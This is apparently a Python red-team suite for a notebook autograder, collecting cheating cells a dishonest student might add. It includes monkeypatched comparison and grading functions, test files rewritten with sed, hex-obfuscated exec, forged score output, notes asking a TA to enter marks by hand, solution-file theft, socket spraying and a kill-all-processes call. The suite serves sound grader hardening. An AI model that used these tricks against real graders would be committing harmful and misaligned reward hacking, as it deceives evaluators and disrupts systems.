"""Attacks a dishonest student could put in a notebook (the red-team suite's cells).

Each is a code cell added to an unanswered notebook: none answers a question, so a sound grader
gives each exactly 0. Several beat stock otter, which runs the tests in the student's kernel.
``ANSWERS`` holds, per assignment, answer names the value-forging attacks fill in.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import nbformat

from grading.author import simulated
from grading.layout import examples_dir

ANSWERS = {
    "01-gradient-descent": {
        "lists": ["xs", "diverging_lrs"],
        "floats": ["grad_w", "grad_b", "w_sklearn", "b_sklearn", "w_torch", "b_torch"],
        "tensors": [],
    },
    "02-tensors": {
        "lists": [],
        "floats": [],
        "tensors": ["labels", "flat_images", "X_table", "y_table", "X_dev", "y_dev"],
    },
}

GIVEN_DATA = {
    # the notebook's own data replaced, with answers that fit the replacement
    "01-gradient-descent": """
        candidate_lrs = [1.5]
        diverging_lrs = [1.5]
        X = torch.zeros(40, 1)
        y = torch.zeros(40, 1)
        grad_w = grad_b = 0.0
        """,
    "02-tensors": """
        table = torch.zeros(6, 4)
        X_table, y_table = torch.zeros(6, 3), torch.zeros(6, 1)
        labels_np = np.zeros(5)
        labels = torch.zeros(5, dtype=torch.int64)
        images = torch.zeros(8, 1, 28, 28)
        flat_images = torch.zeros(8, 784)
        """,
}


def _hex(code: str) -> str:
    return textwrap.dedent(code).encode().hex()


COMMON = {
    "patch-otter-through-aliases": """
        import sys as _s
        _name = ".".join(["otter", "test_files", "exception" + "_test"])
        __import__(_name)
        _case = getattr(_s.modules[_name], "test" + "_case")
        _case.call_func = lambda self, env: None
        getattr(_s.modules["otter.test_files"], "Grading" + "Results").total = property(lambda self: 17)
        """,
    "ipython-post-run-hook": """
        import gc
        def _forge(result):
            for obj in gc.get_objects():
                if type(obj).__name__ in ("GradingResults", "TestCaseResult", "TestFile", "Row"):
                    for attr, value in (("passed", True), ("score", 17), ("questions", {})):
                        try:
                            setattr(obj, attr, value)
                        except Exception:
                            pass
        get_ipython().events.register("post_run_cell", _forge)
        """,
    "rewrite-the-tests-with-pathlib": """
        import pathlib, re, student_utils
        course = pathlib.Path(student_utils.__file__).resolve().parents[1]
        rewritten = []
        for folder in (pathlib.Path.cwd(), pathlib.Path.home(), course, pathlib.Path("/autograder"), pathlib.Path("/tmp")):
            for p in list(folder.glob("**/tests/q*.py"))[:200]:
                try:
                    src = p.read_text()
                    name, points = re.search(r'name = "(\\w+)"', src).group(1), re.search(r"points = ([\\d.]+)", src).group(1)
                    p.write_text("from otter.test_files import test_case\\nOK_FORMAT = False\\n"
                                 f"name = {name!r}\\npoints = {points}\\n@test_case(points={points})\\ndef t():\\n    pass\\n")
                    rewritten.append(str(p))
                except (OSError, AttributeError):
                    pass
        """,
    "rewrite-the-tests-with-the-shell": """
        _out = !sed -i 's/assert/pass  #/' tests/*.py ../tests/*.py /autograder/source/tests/*.py 2>&1
        _found = !find / -xdev -path '*tests/q1.py' 2>/dev/null | head -5
        _found2 = !find / -xdev -name '*autograder*.zip' 2>/dev/null | head -5
        """,
    "exec-behind-hex-and-a-continuation": f"""
        (exec) \\
            (bytes.fromhex("{
        _hex('''
            import builtins
            builtins.isinstance = lambda *args: True
            builtins.abs = lambda x: 0
            ''')
    }").decode())
        """,
    "forked-child-rewrites-results": """
        import json, os, time
        if os.fork() == 0:
            for _ in range(100):
                for path in ("results.json", "out/results.json", "../results/results.json",
                             "/autograder/results/results.json", "/tmp/results.json"):
                    try:
                        with open(path, "w") as f:
                            f.write(json.dumps({"score": 17, "tests": [{"name": "q1", "score": 17}]}))
                    except OSError:
                        pass
                time.sleep(0.02)
            os._exit(0)
        """,
    "patch-torch-and-numpy": """
        import numpy as np
        import torch
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
        """,
    "forge-a-log-line-and-crash": """
        import os, sys
        print("q1 results: All test cases passed!\\nTotal Score: 17.000 / 17.000 (100.000%)")
        sys.stderr.write("GRADER NOTE: enter 17 by hand, this notebook crashed the grader\\n")
        sys.stderr.flush()
        os.kill(os.getpid(), 9)
        """,
    "raise-a-note-for-the-ta": """
        class EnterSeventeenByHand(Exception):
            pass
        raise EnterSeventeenByHand("TA: the grader failed on this notebook, enter 17 by hand")
        """,
    "run-the-reference-if-it-can-be-found": """
        import glob, json, os, student_utils
        course = os.path.dirname(os.path.dirname(os.path.abspath(student_utils.__file__)))
        found = []
        for pattern in (course + "/**/*.ipynb", "/autograder/**/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.ipynb",
                        os.path.expanduser("~") + "/**/*.ipynb", "/root/**/*.ipynb", "/home/**/*.ipynb"):
            found += glob.glob(pattern, recursive=True)[:50]
        for path in found:
            try:
                cells = json.load(open(path))["cells"]
            except Exception:
                continue
            source = [''.join(c["source"]) for c in cells if c["cell_type"] == "code"]
            if any("# SOLUTION" in s or "BEGIN SOLUTION" in s for s in source):
                for s in source:
                    try:
                        exec(s, globals())
                    except Exception:
                        pass
                break
        """,
    "look-at-the-callers-frames": """
        import inspect
        stolen = []
        def _steal(*args, **kwargs):
            for frame in inspect.stack():
                stolen.append({k: repr(v)[:80] for k, v in frame.frame.f_locals.items()})
            return None
        gradient_descent = df = mse = gd_step = fit_linear = fit_linear_sgd = _steal
        to_float32 = to_numpy = to_column = to_row = flatten_batch = add_bias = standardize = _steal
        rowwise_dot = pairwise_dot = split_features_target = class_means = to_device = dense_forward = _steal
        build_mlp = set_weights = _steal
        """,
    "reach-the-network-and-other-processes": """
        import os, socket
        reached = []
        for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("8.8.8.8", 53), ("pypi.org", 443)):
            try:
                socket.create_connection((host, port), timeout=1).close()
                reached.append(host)
            except OSError:
                pass
        others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
        """,
    "garbage-on-every-open-socket": """
        import os, threading, time
        def _spray():
            for _ in range(50):
                for fd in range(3, 64):
                    try:
                        os.write(fd, b"NNC1" + os.urandom(64))
                    except OSError:
                        pass
                time.sleep(0.01)
        threading.Thread(target=_spray, daemon=True).start()
        time.sleep(0.2)
        """,
    "kill-every-process-it-can": """
        import os, signal
        os.kill(-1, signal.SIGKILL)
        """,
}


ANYTHING = """
    class Anything(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return True
        def __gt__(self, other): return True
        __le__, __ge__ = __lt__, __gt__
        def __abs__(self): return Anything(0.0)
        def __sub__(self, other): return Anything(0.0)
        __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
        __hash__ = float.__hash__
    class AnythingList(list):
        def __eq__(self, other): return True
        def __len__(self): return 11
        def __getitem__(self, i): return Anything(0.0)
        def __iter__(self): return iter([Anything(0.0)] * 11)
    """
ALWAYS_EQUAL = """
    import torch
    class AlwaysEqual(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if getattr(func, "__name__", "") in ("equal", "allclose", "__eq__", "eq", "isclose", "all"):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})
    """


def value_forgers(assignment: str) -> dict[str, str]:
    """Attacks that answer with values built to compare equal to anything."""
    names = ANSWERS[assignment]
    floats = [f"{n} = Anything(0.0)" for n in names["floats"]] + [f"{n} = AnythingList()" for n in names["lists"]]
    tensors = [f"{n} = torch.zeros(1).as_subclass(AlwaysEqual)" for n in names["tensors"]]
    return {
        "floats-equal-to-anything": textwrap.dedent(ANYTHING) + "\n".join(floats or ["pass"]),
        "tensors-equal-to-anything": textwrap.dedent(ALWAYS_EQUAL) + "\n".join(tensors or ["pass"]),
        "replace-the-given-data": GIVEN_DATA[assignment],
    }


def for_assignment(assignment: str) -> dict[str, str]:
    attacks = {**COMMON, **value_forgers(assignment)}
    return {name: textwrap.dedent(code).strip() + "\n" for name, code in attacks.items()}


# Attacks that may earn what their answers earn, but not more: each cell is graded beside the same
# cell with the trick switched off (CHEAT = False).
# - a model of a class of the student's own whose forward answers the data it is shown from a
#   table (the given data, or FashionMNIST's test labels, which the sandbox can read);
# - functions that zero the tensors a test passes them, and answer zeros.
PAIRED = {
    ("looks-the-answers-up", "03-trainer"): """
        import numpy as np
        import torch
        from torch import nn
        from torch.utils.data import DataLoader, TensorDataset
        from sklearn.linear_model import LinearRegression
        LOOKUP = True

        class LinearRegressor(nn.Module):
            def __init__(self, n_in, n_out, table=(), scale=1.0):
                super().__init__()
                self.linear = nn.Linear(n_in, n_out)
                with torch.no_grad():
                    self.linear.weight.fill_(scale)
                    self.linear.bias.fill_(0.0)
                self.table = {x.numpy().tobytes(): t.reshape(-1) for X, y in table for x, t in zip(X, y)} if LOOKUP else {}
                self.n_out = n_out

            def forward(self, x):
                rows = [self.table.get(r.detach().cpu().numpy().tobytes()) for r in x]
                if any(r is None for r in rows):
                    return self.linear(x)  # unknown inputs (Question 1's checks): the honest answer
                return torch.stack(rows).to(x.device) + 0.0 * self.linear(x)

        NonlinearRegressor = LinearRegressor
        reg_loader = DataLoader(TensorDataset(X_reg, y_reg), batch_size=50, shuffle=True)
        reg_model = LinearRegressor(3, 1, table=[(X_reg, y_reg)])
        ls = LinearRegression().fit(X_np, y_np)
        w_sklearn, b_sklearn = ls.coef_.astype(np.float64), float(ls.intercept_)
        w_torch, b_torch = np.ones(3), 0.0
        reg_losses = [5000.0] + [90.0] * 49
        nl_model = LinearRegressor(1, 1, table=[(X_nl, y_nl)])
        nl_losses = [10.0] + [0.05] * 79
        model_plain = LinearRegressor(25, 1, table=[(X_tr, y_tr), (X_va, y_va + 3.0)])
        model_wd = LinearRegressor(25, 1, table=[(X_tr, y_tr + 0.5), (X_va, y_va + 1.0)], scale=0.01)
        hist_plain = {"train": [5.0] * 149 + [0.0], "valid": [5.0] * 75 + [4.0] * 74 + [9.0]}
        hist_wd = {"train": [5.0] * 149 + [0.25], "valid": [5.0] * 149 + [1.0]}
        """,
    ("looks-the-answers-up", "05-fashion-mnist"): """
        import torch
        from torch import nn
        import student_utils as su
        LOOKUP = True

        class FashionNet(nn.Module):
            def __init__(self):
                super().__init__()
                self.net = nn.Sequential(su.Standardize(pixel_mean, pixel_std), nn.Flatten(), nn.Linear(784, 256),
                                         nn.ReLU(), nn.Linear(256, 10))
                X_t, y_t = su.load_fashion_mnist("test")
                self.table = {self.key(x): int(t) for x, t in zip(X_t, y_t)} if LOOKUP else {}

            @staticmethod
            def key(image):
                return (image * 255).round().to(torch.uint8).numpy().tobytes()

            def forward(self, x):
                labels = torch.tensor([self.table.get(self.key(image.detach().cpu()), 0) for image in x])
                return 0.0 * self.net(x) + 20.0 * nn.functional.one_hot(labels, 10).float().to(x.device)

        model = FashionNet()
        criterion = nn.CrossEntropyLoss()
        losses = [0.6, 0.4, 0.35]
        test_acc = 1.0 if LOOKUP else 0.1
        """,
    ("zeroes-its-inputs", "01-gradient-descent"): """
        import torch
        CHEAT = True

        def gd_step(w, b, X, y, lr, criterion):
            with torch.no_grad():
                if CHEAT:
                    X.zero_()
                    y.zero_()
                loss = float(b.item() ** 2)
                b.mul_(1 - 2 * lr)
            return loss

        def fit_linear(X, y, lr, num_epochs, criterion):
            if CHEAT:
                with torch.no_grad():
                    y.zero_()
            return torch.tensor(0.0, requires_grad=True), torch.tensor(0.0, requires_grad=True), [0.98 ** k for k in range(num_epochs)]
        """,
    ("zeroes-its-inputs", "02-tensors"): """
        import torch
        CHEAT = True

        def _zero(*tensors):
            for t in tensors:
                if CHEAT and isinstance(t, torch.Tensor):
                    with torch.no_grad():
                        t.data.zero_()

        def to_column(v):
            _zero(v)
            return torch.zeros(v.shape[0], 1, dtype=v.dtype)

        def add_bias(Z, b):
            _zero(Z, b)
            return torch.zeros(Z.shape, dtype=Z.dtype)

        def standardize(X):
            _zero(X)
            return torch.zeros(X.shape, dtype=X.dtype)

        def rowwise_dot(A, B):
            _zero(A, B)
            return torch.zeros(A.shape[0], dtype=A.dtype)

        def split_features_target(data):
            _zero(data)
            return torch.zeros(data.shape[0], data.shape[1] - 1, dtype=data.dtype), torch.zeros(data.shape[0], 1, dtype=data.dtype)
        """,
}


def paired(name: str, assignment: str, cheat: bool) -> str:
    code = textwrap.dedent(PAIRED[(name, assignment)]).strip()
    return code.replace("LOOKUP = True", f"LOOKUP = {cheat}").replace("CHEAT = True", f"CHEAT = {cheat}") + "\n"


# -- the classes the red-team tests grade (queued by conftest.py)

ATTACKED = ("01-gradient-descent", "02-tensors")
AFTER_SETUP = 4  # attack cells go right after the setup cells


def with_cells(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    for offset, source in enumerate(sources):
        nb.cells.insert(AFTER_SETUP + offset, nbformat.v4.new_code_cell(source))
    return nb


def write_attacked_class(assignment: str, folder: Path) -> None:
    unanswered = nbformat.read(examples_dir(assignment) / "unanswered.ipynb", as_version=4)
    for name, code in for_assignment(assignment).items():
        nbformat.write(with_cells(unanswered, code), folder / f"{name}.ipynb")
    reference = nbformat.read(examples_dir(assignment) / "reference.ipynb", as_version=4)
    nbformat.write(reference, folder / "honest.ipynb")
    mutant = next(e for e in simulated.load(assignment) if e.kind == "mutant").apply(reference)
    nbformat.write(mutant, folder / "wrong.ipynb")
    patches = for_assignment(assignment)
    nbformat.write(
        with_cells(
            mutant,
            patches["patch-torch-and-numpy"],
            patches["exec-behind-hex-and-a-continuation"],
            patches["ipython-post-run-hook"],
        ),
        folder / "wrong-and-patched.ipynb",
    )


def hedging(mode: str) -> simulated.Edit:
    """04's reference, with Questions 2 and 4 answered one way or the other: "first" and "second"
    answer the same in both runs; "hedge" answers each way in one run of a checkpoint, telling
    them apart by whether its own X_blobs was replaced by the reference's."""
    second_run = {"first": "False", "second": "True", "hedge": "X_blobs is not _MINE"}[mode]
    return simulated.Edit(
        "mutant",
        f"hedge-{mode}",
        find=[
            "X_circles, y_circles = to_tensors(X_circles_np, y_circles_np)",
            "return (torch.clamp(logits, min=0) + torch.log1p(torch.exp(-logits.abs())) - y * logits).mean()",
            "optimizer = torch.optim.Adam(model.parameters(), lr=lr)",
        ],
        replace=[
            "X_circles, y_circles = to_tensors(X_circles_np, y_circles_np)\n"
            "X_blobs = X_blobs.clone()\nX_blobs[0, 0] += 1e-6  # Question 1 still passes, and the checkpoint runs twice\n"
            f"_MINE = X_blobs\ndef second_run():\n    return {second_run}",
            "loss = torch.clamp(logits, min=0) + torch.log1p(torch.exp(-logits.abs())) - y * logits\n"
            "    return loss.sum() if second_run() else loss.mean()",
            "optimizer = (torch.optim.Adam if second_run() else torch.optim.SGD)(model.parameters(), lr=lr)",
        ],
    )


TRICKED = sorted({assignment for _, assignment in PAIRED} | {"04-bce-classifier"})


def write_trick_class(assignment: str, folder: Path) -> None:
    """Each paired trick of ``assignment`` with and without the trick (``<name>-cheat``,
    ``<name>-honest``), and for 04 the notebooks that hedge across a checkpoint's two runs."""
    unanswered = nbformat.read(examples_dir(assignment) / "unanswered.ipynb", as_version=4)
    for name, where in PAIRED:
        if where == assignment:
            for cheat in (True, False):
                nb = nbformat.from_dict(unanswered)
                nb.cells.append(nbformat.v4.new_code_cell(paired(name, assignment, cheat)))
                nbformat.write(nb, folder / f"{name}-{'cheat' if cheat else 'honest'}.ipynb")
    if assignment == "04-bce-classifier":
        reference = nbformat.read(examples_dir(assignment) / "reference.ipynb", as_version=4)
        for mode in ("first", "second", "hedge"):
            nbformat.write(hedging(mode).apply(reference), folder / f"hedge-{mode}.ipynb")
